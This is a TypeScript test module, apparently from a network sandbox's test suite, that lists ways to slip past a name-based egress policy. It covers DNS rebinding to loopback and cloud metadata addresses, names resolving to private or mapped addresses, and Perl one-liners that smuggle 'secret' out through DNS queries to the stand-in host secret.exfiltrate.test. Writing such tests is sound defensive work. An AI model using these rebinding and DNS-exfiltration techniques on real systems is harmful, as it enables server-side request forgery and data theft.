import {
  asked,
  bySaying,
  everything,
  reachedPrivate,
  type NetworkMechanism,
} from '../network-mechanism.ts'
import { get, perlOnline, say, tunnel } from '../programs.ts'
import type { NameAnswer } from '../world/name-server.ts'
import { addresses, type World } from '../world/world.ts'

/** Names that lead elsewhere, and questions for names that carry something out. */
export function listResolution(): readonly NetworkMechanism[] {
  return [...leading(), ...asking()]
}

/** The policy names the name: it may lead to the internet, and nowhere else. */
function leading(): readonly NetworkMechanism[] {
  const { allowed, metadata, metadata6, unique6, linkLocal, own } = addresses
  const changing: NameAnswer = (count) => ({
    addresses: [count % 2 === 0 ? allowed : '127.0.0.1'],
  })
  const later: NameAnswer = (count) => ({ addresses: [count === 0 ? allowed : metadata] })
  return [
    byName('rebind a name to loopback', changing),
    byName('rebind a name to metadata', later, { variantOf: 'rebind a name to loopback' }),
    byName('have a name that leads to loopback', '127.0.0.1'),
    byName('have a name that leads to a private network', addresses.privates[0]),
    byName('have a name that leads to a private network, version 6', unique6, {
      variantOf: 'have a name that leads to a private network',
    }),
    byName('have a name that leads to metadata', metadata),
    byName('have a name that leads to metadata, version 6', metadata6, {
      variantOf: 'have a name that leads to metadata',
    }),
    byName('have a name that leads to a link-local address', linkLocal),
    byName('have a name that leads nowhere at all', '0.0.0.0'),
    byName('have a name that leads to a mapped address', '::ffff:127.0.0.1'),
    byName('have a name that leads to an embedded address', addresses.embedding[0]),
    byName('have a name that leads to this machine', own, { worked: reachedOwn }),
    byName('have a name with one private address among many', [allowed, '127.0.0.1', metadata]),
    byName('have a name that stands for another, that is private', () => ({
      addresses: ['127.0.0.1'],
      alias: 'inside.company.test',
    })),
    {
      name: 'have a name that is loopback by custom',
      prepare: (world) => {
        const { port } = world.sink
        const hosts = ['localhost', 'localhost.', 'LocalHost', 'any.localhost']
        for (const host of hosts)
          world.names.set(host.replace(/\.$/, '').toLowerCase(), '127.0.0.1')
        return {
          command: say(world, ...hosts.map((host) => tunnel(`${host}:${port}`))),
          grants: everything(world),
          worked: reachedPrivate,
        }
      },
    },
  ]
}

const reachedOwn: typeof reachedPrivate = ({ hits }) =>
  hits.some(({ address }) => address === addresses.own)

function byName(
  name: string,
  answer: NameAnswer | string | readonly string[],
  {
    variantOf,
    worked = reachedPrivate,
  }: { readonly variantOf?: string; readonly worked?: typeof reachedPrivate } = {},
): NetworkMechanism {
  return {
    name,
    variantOf,
    prepare: (world) => {
      world.names.set('leading.test', answer)
      const authority = `leading.test:${world.sink.port}`
      const plain = get(`http://${authority}/`, authority)
      return {
        command: say(world, plain, tunnel(authority), plain, tunnel(authority)),
        grants: [{ host: 'leading.test', ports: [world.sink.port] }],
        worked,
      }
    },
  }
}

/** The name itself is what is told, to whoever answers for it. */
function asking(): readonly NetworkMechanism[] {
  const secret = { worked: asked('secret') }
  return [
    bySaying(
      'carry words out in a name',
      ({ sink }) => [
        get(`http://secret.exfiltrate.test:${sink.port}/`, 'secret.exfiltrate.test'),
        tunnel(`secret.exfiltrate.test:${sink.port}`),
      ],
      secret,
    ),
    bySaying(
      'carry words out in a name below one that is named',
      ({ sink }) => [tunnel(`secret.allowed.test:${sink.port}`)],
      { ...secret, variantOf: 'carry words out in a name' },
    ),
    bySaying(
      'carry words out in a name that is named, on another port',
      ({ other }) => [tunnel(`secret.granted.test:${other.port}`)],
      {
        ...secret,
        variantOf: 'carry words out in a name',
      },
    ),
    {
      name: 'ask the server of names, by datagrams',
      prepare: (world) => ({
        command: perlOnline(world, `${question} ${byDatagrams}`, world.names.port),
        ...secret,
      }),
    },
    {
      name: 'ask the server of names, by a stream',
      prepare: (world) => ({
        command: perlOnline(
          world,
          `${question} socket(my $s, 2, 1, 0); connect($s, $to) or exit 1; syswrite($s, pack("n", length $q) . $q); exit 0 if length hear($s)`,
          world.names.port,
        ),
        ...secret,
      }),
    },
    {
      name: 'ask the server of names through the proxy',
      prepare: (world: World) => ({
        command: perlOnline(
          world,
          `${question} my $a = "127.0.0.1:$ARGV[0]"; ask("CONNECT $a HTTP/1.1\\r\\nHost: $a\\r\\n\\r\\n" . pack("n", length $q) . $q)`,
          world.names.port,
        ),
        ...secret,
      }),
    },
  ]
}

// RFC 1035: one question for an address of secret.exfiltrate.test.
const question = String.raw`
  my $q = pack("n6", 7, 0x100, 1, 0, 0, 0) . "\6secret\12exfiltrate\4test\0" . pack("n2", 1, 1);
  my $to = pack_sockaddr_in($ARGV[0], inet_aton("127.0.0.1"));`
const byDatagrams =
  'socket(my $s, 2, 2, 0); send($s, $q, 0, $to) or exit 1; exit 0 if length hear($s)'
